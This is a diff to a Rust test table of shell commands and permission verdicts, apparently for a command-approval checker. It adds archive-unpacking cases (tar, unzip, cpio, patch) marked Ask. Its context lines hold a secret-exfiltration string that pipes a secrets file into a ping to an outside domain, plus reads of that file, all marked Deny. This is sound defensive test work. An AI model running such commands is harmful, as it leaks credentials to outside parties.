@@ -185,6 +185,13 @@ const TABLE: &[(u8, &str, Verdict)] = &[
     (38, "ping $(cat secrets/k).e.com", Deny),
     (38, "cat SECRETS/k", Deny),
     (38, "cat s*/k", Ask),
+    // What an archive holds lands where it says: nothing that unpacks runs without leave.
+    (53, "tar -xf a.tar", Ask),
+    (53, "tar xf a.tar -C sub", Ask),
+    (53, "unzip -o a.zip", Ask),
+    (53, "cpio -idu < a.cpio", Ask),
+    (53, "cat a.tar | tar x", Ask),
+    (53, "git log | patch -p0", Ask),
 ];
 
 #[test]
